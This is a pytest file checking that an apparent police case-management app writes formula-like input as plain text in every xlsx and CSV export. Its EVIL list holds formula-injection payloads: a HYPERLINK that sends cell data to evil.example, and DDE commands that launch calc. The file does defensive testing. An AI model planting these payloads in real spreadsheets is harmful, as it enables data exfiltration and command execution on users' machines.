"""No outside value reaches a spreadsheet as a formula: every xlsx and CSV file the app writes
(report, rejected ledger rows, view export, audit trail) is read back; formula-like text is a
text cell (openpyxl data_type "s") or, in CSV, starts with an apostrophe (OWASP)."""
from __future__ import annotations

import csv
from datetime import date

import pytest
from openpyxl import load_workbook

from app import cli
from app.domain.levels import Module
from app.domain.rules import Actor
from app.ledger.importer import import_ledger
from app.reports.pack import build_report
from app.reports.xlsx import write_xlsx
from app.services import audit, org, records, workstation
from app.services.records import CaseInput, Responsibility
from app.services.tables import TableQuery
from app.spreadsheet import FORMULA_START, csv_value, formula_like

#: One per trigger character: each would run in Excel, WPS or LibreOffice.
EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def xlsx_cells(path):
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_text_not_formula(path, expected: list[str]) -> None:
    cells = xlsx_cells(path)
    found = {c.value for c in cells if c.data_type == "s"}
    for e in expected:
        assert any(e in v for v in found if isinstance(v, str)), (e, path)
    for c in cells:
        if c.data_type == "f":
            assert not any(e in str(c.value) or str(c.value) in e for e in EVIL), (c.coordinate, c.value)


def test_the_one_function_covers_every_trigger():
    assert all(formula_like(e) and csv_value(e) == "'" + e for e in EVIL)
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    assert csv_value("城关派出所") == "城关派出所" and csv_value(-5) == -5 and csv_value(None) is None


@pytest.fixture
def evil_records(db, station):
    """Red cases whose case number, cause and summary, and an officer whose name, are formulas."""
    evil_officer = org.add_officer(db, EVIL[3], "officer", station.team_id)
    for i, e in enumerate(EVIL):
        records.create_case(db, station.leader, CaseInput(
            f"{e[:1]}X{i}" if i else e[:40], "criminal", "red", date.today(), cause=e[:60], summary=e,
            people=Responsibility(officer_id=evil_officer)))
    return station


def test_report_xlsx_keeps_outside_text_as_text(db, evil_records, tmp_path):
    report = build_report(db, "red", date.today().isoformat(), date.today())
    write_xlsx(report, tmp_path / "red.xlsx")
    assert_text_not_formula(tmp_path / "red.xlsx", [EVIL[0][:40], EVIL[3]])


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_view_export_keeps_outside_text_as_text(db, evil_records, tmp_path, suffix):
    out = tmp_path / f"view{suffix}"
    workstation.export_view(db, evil_records.leader, "case", TableQuery(), out)
    if suffix == ".xlsx":
        assert_text_not_formula(out, [EVIL[0][:40]])
        return
    cells = [c for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines()) for c in row]
    assert any(c == "'" + EVIL[0][:40] for c in cells)
    assert not any(c.startswith(FORMULA_START) for c in cells), [c for c in cells if c.startswith(FORMULA_START)]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_rejected_ledger_rows_keep_outside_text_as_text(db, station, tmp_path, suffix):
    from openpyxl import Workbook

    from tests.data.ledgers.build import CASE_HEADER

    wb = Workbook()
    ws = wb.active
    ws.append(CASE_HEADER)
    for i, e in enumerate(EVIL, start=1):  # level "紫" is refused: every row goes to the rejects file
        ws.append([i, f"B{i:03d}", "刑事", e, "2025-01-02", None, None, None, "紫", e, e, "张伟", "李强", "王建国", e])
        for c in ws[ws.max_row]:
            if isinstance(c.value, str):
                c.data_type = "s"  # the hostile ledger holds them as text; the danger is the way out
    wb.save(tmp_path / "cases.xlsx")
    report, written = import_ledger(db, station.leader, tmp_path / "cases.xlsx", Module.CASE,
                                    rejects=tmp_path / f"rejects{suffix}")
    assert written is not None and len(report.rejected) == len(EVIL)
    if suffix == ".xlsx":
        assert_text_not_formula(written, [e for e in EVIL if not e.startswith(("\t", "\r"))])
        return
    rows = list(csv.reader(written.read_text(encoding="utf-8-sig").splitlines()))
    cells = [c for r in rows[1:] for c in r]
    assert "'" + EVIL[0] in cells
    assert not any(c.startswith(FORMULA_START) for c in cells), [c for c in cells if c.startswith(FORMULA_START)]


def test_audit_csv_keeps_outside_text_as_text(db, station, tmp_path, capsys):
    audit.record_event(db, Actor(None, "x", "admin", account=EVIL[0]), "login")
    path = db.path
    db.close()
    assert cli.main(["audit", "--db", str(path), "--out", str(tmp_path / "audit.csv")]) == 0
    cells = [c for row in csv.reader((tmp_path / "audit.csv").read_text(encoding="utf-8-sig").splitlines())
             for c in row]
    assert "'" + EVIL[0] in cells
    assert not any(c.startswith(FORMULA_START) for c in cells)


def test_every_spreadsheet_writer_in_the_app_uses_the_one_function():
    """A new xlsx/CSV writer that forgets app.spreadsheet fails here. The ledger template writes
    only the app's own column titles."""
    from pathlib import Path

    import app

    root = Path(app.__file__).parent
    writers = [p for p in root.rglob("*.py") if any(w in p.read_text(encoding="utf-8")
                                                    for w in ("csv.writer(", "Workbook(", ".writerow("))]
    assert len(writers) >= 5
    for p in writers:
        if p.name in ("spreadsheet.py", "template.py"):
            continue
        assert "app.spreadsheet import" in p.read_text(encoding="utf-8"), p.relative_to(root)
